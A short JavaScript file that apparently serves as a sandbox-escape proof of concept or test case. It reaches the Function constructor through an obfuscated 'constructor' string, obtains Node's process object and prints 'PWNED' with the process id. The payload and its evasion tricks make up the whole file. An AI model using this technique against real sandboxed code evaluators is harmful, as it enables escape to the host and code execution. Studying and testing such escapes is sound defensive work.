'use strict';
const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
const t = new C();
t.go({});
const fn = (x) => x;
const f = (x) => { switch (x) { case 1: return t; default: return {}; } };
const o = Date.now() > 1 ? f(1) : {};
console.log('PWNED', o.go(fn)('return process')().pid);
